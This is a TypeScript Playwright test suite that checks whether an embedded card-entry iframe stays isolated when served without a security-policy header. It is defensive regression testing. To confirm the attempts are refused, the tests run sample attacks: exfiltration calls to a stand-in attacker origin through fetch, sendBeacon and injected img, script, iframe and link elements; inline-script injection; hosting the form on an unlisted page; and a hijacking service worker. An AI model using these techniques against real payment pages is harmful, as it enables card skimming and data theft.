/*
 * The card form's document from a server that sends no policy with it: the policy inside it, its own checks and its file
 * have to be enough.
 */

import { foreignParent } from "./card-attack-scripts.ts";
import { cardFrameName, cardFrameOf, formOf, openForm, testWithoutPolicy as test } from "../card-form.ts";
import { expect } from "../session-site.ts";

test("WAL-5 without a header, a script in the card form can call the wallet service, and no other server", async ({
  page,
  sandbox,
  attacker,
}) => {
  await openForm(page, sandbox.url);
  await expect(formOf(page).getByLabel("Card number")).toBeVisible();
  const frame = cardFrameOf(page);
  const call = (url: string) =>
    frame.evaluate(
      (to) =>
        fetch(to, { mode: "no-cors" }).then(
          () => "sent",
          () => "refused",
        ),
      url,
    );
  // Its file has been read as soon as the attacker is refused.
  await expect.poll(() => call(attacker.origin)).toBe("refused");
  expect(await call(`${sandbox.url}/api/wallet/public-key`)).toBe("sent");
  attacker.reset();
  await frame.evaluate(async (evil) => {
    navigator.sendBeacon(evil, "beacon");
    const elements = { img: "src", script: "src", iframe: "src", link: "href" };
    for (const [tag, attribute] of Object.entries(elements)) {
      const node = document.createElement(tag);
      node.setAttribute("rel", "stylesheet");
      const isOver = new Promise((resolve) => {
        node.onerror = node.onload = resolve;
      });
      node.setAttribute(attribute, `${evil}/${tag}`);
      document.body.append(node);
      await isOver;
    }
  }, attacker.origin);
  expect(attacker.loot()).toBe("");
});

test("WAL-5 without a header, markup that is put into the card form runs no script", async ({
  page,
  sandbox,
}) => {
  await openForm(page, sandbox.url);
  await expect(formOf(page).getByLabel("Card number")).toBeVisible();
  const refused = await cardFrameOf(page).evaluate(async () => {
    const violations: string[] = [];
    const isOver = new Promise<void>((resolve) =>
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        if (violations.push(effectiveDirective) === 2) resolve();
      }),
    );
    const script = document.createElement("script");
    script.text = "window.hasRun = true";
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.hasRun = true");
    document.body.append(script, button);
    button.click();
    if (!("hasRun" in window)) await isOver;
    return "hasRun" in window ? "It has run." : violations.sort();
  });
  expect(refused).toEqual(["script-src-attr", "script-src-elem"]);
});

test("WAL-5 without a header, the card form takes no card on a page that its file doesn't name", async ({
  page,
  sandbox,
  attacker,
  cdn,
}) => {
  const wallet = `${sandbox.url}/api/wallet`;
  attacker.put("/", foreignParent(`${cdn.origin}/${await cardFrameName()}`));
  const fields = page.frameLocator("iframe").locator("input");
  // The same page draws the form if the file names it.
  cdn.putFile({ [attacker.origin]: wallet });
  await page.goto(attacker.origin);
  await expect(fields).toHaveCount(3);
  cdn.putFile({ [sandbox.url]: wallet });
  await page.reload();
  await expect(page).toHaveTitle("Refused: unlisted");
  await expect(fields).toHaveCount(0);
});

test("WAL-5 without a header, the card form takes no card in a frame that the page can read", async ({
  page,
  sandbox,
  cdn,
}) => {
  const name = await cardFrameName();
  cdn.putFile({ [cdn.origin]: `${sandbox.url}/api/wallet` });
  cdn.put("/sandboxed", { body: foreignParent(`/${name}`) });
  cdn.put("/readable", { body: foreignParent(`/${name}`, "") });
  const fields = page.frameLocator("iframe").locator("input");
  await page.goto(`${cdn.origin}/sandboxed`);
  await expect(fields).toHaveCount(3);
  const isRefused = page.waitForEvent("console", (message) =>
    message.text().includes('The card form runs only in a frame with sandbox="allow-scripts"'),
  );
  await page.goto(`${cdn.origin}/readable`);
  await isRefused;
  await expect(fields).toHaveCount(0);
});

test("WAL-5 without a header, a service worker of the page replaces neither the card form nor its file", async ({
  page,
  sandbox,
  cdn,
}) => {
  const name = await cardFrameName();
  cdn.putFile({ [cdn.origin]: `${sandbox.url}/api/wallet` });
  cdn.put("/worker.js", {
    body: `onactivate = (event) => event.waitUntil(clients.claim());
      onfetch = (event) => {
        if (!event.request.url.includes("card-frame")) return;
        event.respondWith(new Response("<p>An imitation", { headers: { "content-type": "text/html" } }));
      };`,
    headers: { "content-type": "text/javascript" },
  });
  cdn.put("/sandboxed", { body: foreignParent(`/${name}`) });
  cdn.put("/readable", { body: foreignParent(`/${name}`, "") });
  await page.goto(`${cdn.origin}/sandboxed`);
  await page.evaluate(async () => {
    const isControlled = new Promise((resolve) => (navigator.serviceWorker.oncontrollerchange = resolve));
    await navigator.serviceWorker.register("/worker.js");
    await isControlled;
  });
  // It replaces what a document of the page's own origin loads.
  await page.goto(`${cdn.origin}/readable`);
  await expect(page.frameLocator("iframe").getByText("An imitation")).toBeVisible();
  await page.goto(`${cdn.origin}/sandboxed`);
  await expect(page.frameLocator("iframe").locator("input")).toHaveCount(3);
});
